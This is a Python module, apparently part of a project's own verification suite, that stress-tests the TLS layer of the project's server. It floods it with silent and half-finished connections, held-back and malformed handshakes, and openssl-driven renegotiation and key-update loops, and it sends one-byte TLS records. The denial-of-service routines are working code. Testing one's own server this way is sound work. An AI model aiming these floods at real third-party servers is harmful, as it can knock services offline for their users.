"""Attacks on TLS itself, for any port that speaks it: callers who do not finish, and what costs the node a signature.

Know the wire alone, no node. Each goes on until its time is over, or until it is cut off.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import ssl
from contextlib import suppress

from metasrv.grpc_api.http2 import frames as f
from verification.attack.target import Target, greet

CALLERS_PER_SECOND = 700
HELD_BACK = 1_000
HANDSHAKES_AT_ONCE = 20
COMMAND_SECONDS = 0.001
"""Between two commands to `openssl s_client`, which takes one at a time."""


async def silent_callers(target: Target) -> None:
    """TCP connections on which nobody says a word."""
    await _call_often(target, b"")


async def half_handshakes(target: Target) -> None:
    """TLS handshakes whose answer the caller never takes up."""
    assert target.tls is not None
    await _call_often(target, client_hello(target.tls))


async def held_back_handshakes(target: Target) -> None:
    """TLS handshakes on many connections that all wait for one more byte, which then comes on all at once."""
    assert target.tls is not None
    hello = client_hello(target.tls)
    while target.goes_on():
        with suppress(OSError):
            for _ in range(HELD_BACK):
                _, writer = await target.connect_plainly()
                target.writers.append(writer)
                writer.write(hello[:-1])
        await asyncio.sleep(0.5)
        for writer in target.writers:
            writer.write(hello[-1:])
        await asyncio.sleep(0.5)
        for writer in target.writers:
            writer.transport.abort()
        target.writers.clear()


async def broken_handshakes(target: Target) -> None:
    """Bytes that are no TLS."""
    await _call_often(target, os.urandom(512))


async def handshakes(target: Target) -> None:
    """Whole TLS handshakes, one after the other on many connections."""

    async def one_after_the_other() -> None:
        while target.goes_on():
            with suppress(OSError):
                _, writer = await target.connect()
                writer.transport.abort()
            await asyncio.sleep(0)

    await asyncio.gather(*(one_after_the_other() for _ in range(HANDSHAKES_AT_ONCE)))


async def renegotiations(target: Target) -> None:
    """TLS 1.2, and on one connection one new handshake after the other."""
    await _command(target, "-tls1_2", b"R\n")


async def key_updates(target: Target) -> None:
    """TLS 1.3, and on one connection one new key after the other, that the node has to answer with its own."""
    await _command(target, "-tls1_3", b"K\n")


async def one_byte_records(target: Target) -> None:
    """PINGs, every byte of them as a TLS record of its own."""
    client = await greet(target)
    while target.goes_on():
        for byte in f.frame(f.PING, 0, 0, bytes(8)) * 20:
            client.writer.write(bytes((byte,)))
        await client.send(b"")


def client_hello(context: ssl.SSLContext) -> bytes:
    """The first bytes that a TLS client sends."""
    answers, said = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(answers, said).do_handshake()
    return said.read()


def has_openssl() -> bool:
    """Whether there is the program that renegotiates and updates keys, which Python's own TLS cannot."""
    return shutil.which("openssl") is not None


async def _call_often(target: Target, words: bytes) -> None:
    while target.goes_on():
        with suppress(OSError):
            for _ in range(CALLERS_PER_SECOND):
                _, writer = await target.connect_plainly()
                target.writers.append(writer)
                writer.write(words)
        await asyncio.sleep(1)
        for writer in target.writers:  # what the node has closed needs no descriptor here
            if writer.transport.is_closing():
                writer.close()


async def _command(target: Target, version: str, command: bytes) -> None:
    target.connections += 1
    place = ("-connect", f"{target.host}:{target.port}", "-bind", f"{target.source or target.host}:0")
    process = await asyncio.create_subprocess_exec(
        "openssl",
        *("s_client", *place, version, "-alpn", "h2"),
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    assert process.stdin is not None
    try:
        while target.goes_on() and process.returncode is None:
            process.stdin.write(command)
            await process.stdin.drain()
            await asyncio.sleep(COMMAND_SECONDS)
    finally:
        if process.returncode is None:
            process.kill()
        await process.wait()
